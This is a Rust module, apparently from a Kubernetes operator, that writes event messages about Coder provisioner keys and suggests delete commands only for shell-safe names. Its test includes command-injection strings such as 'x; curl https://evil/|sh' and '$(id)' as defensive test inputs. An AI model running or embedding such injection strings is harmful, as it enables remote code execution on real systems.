//! Decides what is told of a key that came, went or was left alone, which no condition shows. Of plaintexts it knows nothing.

use super::key::cause::Cause;
use super::key::record::Home;
use super::key::steps::Left;
use super::reasons::Reason;
use crate::controller::attached::commands::is_plain;
use crate::controller::attached::secret::{self, SecretPlace};
use crate::kubernetes::events::{EventDraft, Severity};

/// Characters of the name of a key in coderd.
const LONGEST_NAME: usize = 64;

/// Something that was done about a key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum KeyEvent<'a> {
    /// It was made, and why.
    Created(&'a str, &'a Cause),
    /// It was deleted.
    Deleted(&'a str),
    /// It was left alone.
    Left(&'a Left),
    /// A Secret stays with its plaintext.
    SecretLeft(&'a SecretPlace),
}

impl KeyEvent<'_> {
    /// What there is to tell.
    pub(super) fn draft(&self) -> EventDraft {
        let (severity, reason, note) = match self {
            Self::Created(name, cause) => (
                if cause.is_interference() { Severity::Warning } else { Severity::Normal },
                Reason::KeyCreated,
                format!("provisioner key {name} was created in coderd{}", because(cause)),
            ),
            Self::Deleted(name) => (
                Severity::Normal,
                Reason::KeyDeleted,
                format!("provisioner key {name} was deleted in coderd"),
            ),
            Self::Left(Left::Taken(name)) => (
                Severity::Warning,
                Reason::KeyNameTaken,
                format!(
                    "coderd already has a provisioner key {name} that this object does not own; using the next number. To \
                     replace that key, set the annotation coder.com/adopt-key: {name}"
                ),
            ),
            Self::Left(Left::MoreTaken(number)) => (
                Severity::Warning,
                Reason::KeyNameTaken,
                format!(
                    "coderd has {number} more provisioner keys of the names that would be next; they are left alone"
                ),
            ),
            Self::Left(Left::Behind(name, home)) => {
                (Severity::Warning, Reason::KeyLeftBehind, behind(name, home))
            }
            Self::Left(Left::Unproven(name)) => (
                Severity::Warning,
                Reason::KeyLeftBehind,
                format!(
                    "provisioner key {} was named by the status, and the operator cannot prove that it made it; if coderd has it, \
                     it was left there. Find out whose it is before you delete it",
                    beginning(name)
                ),
            ),
            Self::Left(Left::WithOrganization(name)) => (
                Severity::Normal,
                Reason::KeyDeleted,
                format!("provisioner key {name} is gone with its organization, which was deleted in coderd"),
            ),
            Self::SecretLeft(place) => (Severity::Warning, Reason::SecretLeftBehind, secret::left(place)),
        };
        EventDraft { severity, reason: reason.to_string(), action: "ProvisionerKey".to_owned(), note }
    }
}

/// Why a key was made, as the end of a sentence.
fn because(cause: &Cause) -> String {
    match cause {
        Cause::First => String::new(),
        Cause::Moved => ": the spec names another control plane or organization".to_owned(),
        Cause::Renamed => ": the spec gives another key name".to_owned(),
        Cause::Tags => ": spec.tags changed".to_owned(),
        Cause::SecretEmptied(secret) => format!(": Secret {secret} was deleted, or emptied"),
        Cause::SecretChanged(secret) => {
            format!(": Secret {secret} was changed and no longer holds the key before it")
        }
        Cause::DeletedInCoderd(name) => format!(": provisioner key {name} was deleted in coderd"),
        Cause::GivenUp => ": the one before it could not be kept".to_owned(),
    }
}

/// What is said of a key of ours that stays, and where: the object that could tell is often gone. The command is for a name that
/// a shell takes as it stands; an organization may be given by its id.
fn behind(name: &str, home: &Home) -> String {
    let Home { deployment, organization, .. } = home;
    let place = if deployment.is_empty() {
        "coderd".to_owned()
    } else {
        format!("organization {organization} of the coderd with deployment id {}", beginning(deployment))
    };
    if is_plain(name) {
        format!(
            "provisioner key {name} was left in {place}; if nobody uses it, run coder provisioner keys delete {name} --org \
             {organization}"
        )
    } else {
        format!("provisioner key {} was left in {place}; if nobody uses it, delete it there", beginning(name))
    }
}

/// As much of a name as coderd keeps: whoever may write a status may write a longer one.
fn beginning(name: &str) -> String {
    name.chars().take(LONGEST_NAME).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::coderd::Uuid;

    fn home() -> Home {
        let organization = "6d5b3bd6-9ba4-4a45-9d3c-8a3a4f5f2c11".parse::<Uuid>().unwrap();
        Home { control_plane: "uid".to_owned(), deployment: "deployment-1".to_owned(), organization }
    }

    fn left_behind(name: &str) -> Left {
        Left::Behind(name.to_owned(), Box::new(home()))
    }

    #[test]
    fn a_key_that_replaces_another_says_why_and_interference_is_a_warning() {
        let told = |cause: &Cause| KeyEvent::Created("builders-2", cause).draft();
        assert_eq!(told(&Cause::First).note, "provisioner key builders-2 was created in coderd");
        assert!(told(&Cause::Tags).note.ends_with(": spec.tags changed"));
        assert!(told(&Cause::SecretEmptied("s".to_owned())).note.contains("Secret s was deleted"));
        for asked_for in [Cause::First, Cause::Moved, Cause::Renamed, Cause::SecretEmptied(String::new())] {
            assert_eq!(told(&asked_for).severity, Severity::Normal, "{asked_for:?}");
        }
        for interference in [Cause::SecretChanged(String::new()), Cause::DeletedInCoderd(String::new())] {
            assert_eq!(told(&interference).severity, Severity::Warning, "{interference:?}");
        }
    }

    #[test]
    fn a_key_that_was_left_is_a_warning_that_names_it_and_what_to_do() {
        assert_eq!(KeyEvent::Created("a", &Cause::First).draft().severity, Severity::Normal);
        let name = || "builders".to_owned();
        for left in [Left::Taken(name()), left_behind("builders"), Left::Unproven(name())] {
            let draft = KeyEvent::Left(&left).draft();
            assert_eq!(draft.severity, Severity::Warning);
            assert!(draft.note.contains("builders"), "{}", draft.note);
        }
    }

    #[test]
    fn nobody_is_told_to_run_a_name_that_somebody_chose() {
        let told = |left: Left| KeyEvent::Left(&left).draft().note;
        let plain = told(left_behind("builders-2"));
        assert!(plain.ends_with(&format!("keys delete builders-2 --org {}", home().organization)), "{plain}");
        assert!(plain.contains("deployment-1"), "{plain}");
        let long = "x".repeat(5000);
        for name in ["x; curl https://evil/|sh", "$(id)", "a b", "-rf", "", "a'b", &long] {
            let note = told(left_behind(name));
            assert!(note.len() < 500, "{note}");
            assert!(note.ends_with("delete it there"), "{note}");
        }
        let unproven = told(Left::Unproven("victim".to_owned()));
        assert!(
            unproven.contains("provisioner key victim ") && !unproven.contains("coder provisioner keys"),
            "{unproven}"
        );
        assert!(told(Left::Unproven("x".repeat(5000))).len() < 300, "it is cut before what to do is");
    }
}
